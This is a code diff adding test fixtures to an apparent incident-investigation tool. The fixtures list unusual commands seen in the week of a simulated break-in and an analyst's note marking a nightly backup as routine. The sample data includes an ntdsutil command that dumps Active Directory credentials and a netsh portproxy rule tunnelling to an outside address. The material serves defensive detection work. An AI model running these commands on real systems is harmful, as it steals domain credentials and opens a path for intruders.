@@ -5,12 +5,13 @@
 use std::io::{self, Write as _};
 use std::time::Instant;
 
+use blackrod_model::assessment::{Noted, Remark};
 use blackrod_model::estate::Organisation;
 use blackrod_model::mail::MailCampaign;
 use blackrod_model::{
-    Campaign, CampaignId, Class, Entity, EntityKind, Evidence, EvidenceId, EvidenceState, Finding, FindingId,
-    FindingTotal, Position, Reason, RefusalGroup, RuleProblem, RuleSet, Run, Severity, Sha256, Target, Tie,
-    Timestamp,
+    Campaign, CampaignId, Class, CommandShape, Entity, EntityKind, Evidence, EvidenceId, EvidenceState, Finding, FindingId,
+    FindingTotal, NewShape, Position, Reason, RefusalGroup, RuleProblem, RuleSet, Run, Severity, Sha256, Target, Tie,
+    Timestamp, UsualShape,
 };
 use blackrod_report::{CaseView, Explanation};
 
@@ -45,6 +46,8 @@ struct Case {
     totals: Vec<FindingTotal>,
     campaigns: Vec<Campaign>,
     mail_campaigns: Vec<MailCampaign>,
+    new_shapes: Vec<NewShape>,
+    remarks: Vec<Noted>,
     rule_sets: Vec<RuleSet>,
     coverage: blackrod_model::Coverage,
 }
@@ -143,6 +146,8 @@ impl Case {
             totals: Vec::new(),
             campaigns: Vec::new(),
             mail_campaigns: Vec::new(),
+            new_shapes: new_shapes(),
+            remarks: vec![usual()],
             coverage: blackrod_model::Coverage::default(),
             rule_sets: vec![
                 RuleSet {
@@ -210,10 +215,10 @@ impl Case {
             totals: &self.totals,
             campaigns: &self.campaigns,
             assessments: &[],
-            remarks: &[],
+            remarks: &self.remarks,
             mail_campaigns: &self.mail_campaigns,
             floods: &[],
-            new_shapes: &[],
+            new_shapes: &self.new_shapes,
             rule_sets: &self.rule_sets,
             coverage: &self.coverage,
             explanations: &[Explanation {
@@ -632,4 +637,70 @@ fn entities(named: &[(EntityKind, &str)]) -> Vec<Entity> {
 
 fn time(text: &str) -> Timestamp {
     Timestamp::parse(text).unwrap_or(Timestamp::UNKNOWN)
+}
+
+/// Commands that are new in the week of the break-in, one of them work.
+fn new_shapes() -> Vec<NewShape> {
+    let new = |command: &str, first: &str, times, hosts: &[&str], account: &str, score, can: &[&str]| {
+        let owned = |texts: &[&str]| texts.iter().map(|&text| text.to_owned()).collect();
+        NewShape {
+            shape: CommandShape {
+                image: command.split(' ').next().unwrap_or_default().to_owned(),
+                skeleton: command.to_owned(),
+            },
+            command: command.to_owned(),
+            first: time(first),
+            times,
+            hosts: owned(hosts),
+            accounts: vec![account.to_owned()],
+            score,
+            can: owned(can),
+        }
+    };
+    vec![
+        new(
+            r#"ntdsutil "ac i ntds" ifm "create full c:\windows\temp\x" q q"#,
+            "2021-01-22T02:14:00Z",
+            1,
+            &["dc-1"],
+            "svc_backup",
+            9.8,
+            &["credentials", "dump"],
+        ),
+        new(
+            "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
+            "2021-01-22T02:31:00Z",
+            2,
+            &["dc-1", "ws-14"],
+            "svc_backup",
+            7.1,
+            &["tunnel"],
+        ),
+        new(
+            r"msiexec /i \\srv03\deploy\readersetup.msi /qn",
+            "2021-01-20T09:02:11Z",
+            214,
+            &["ws-01", "ws-02", "ws-03", "ws-04", "ws-05", "ws-06", "ws-07", "ws-08"],
+            "svc_deploy",
+            1.9,
+            &["execute"],
+        ),
+    ]
+}
+
+/// What somebody said is usual.
+fn usual() -> Noted {
+    Noted {
+        id: 1,
+        at: time("2021-01-25T08:00:00Z"),
+        by: "Ines Okafor".to_owned(),
+        remark: Remark::Usual {
+            usual: UsualShape {
+                shape: CommandShape::default(),
+                accounts: vec!["svc_backup".to_owned()],
+            },
+            command: r"wbadmin start backup -backuptarget:\\srv03\backup -include:c: -quiet".to_owned(),
+            reason: "The nightly backup; moved to this server on 18 January, change 4411.".to_owned(),
+        },
+    }
 }
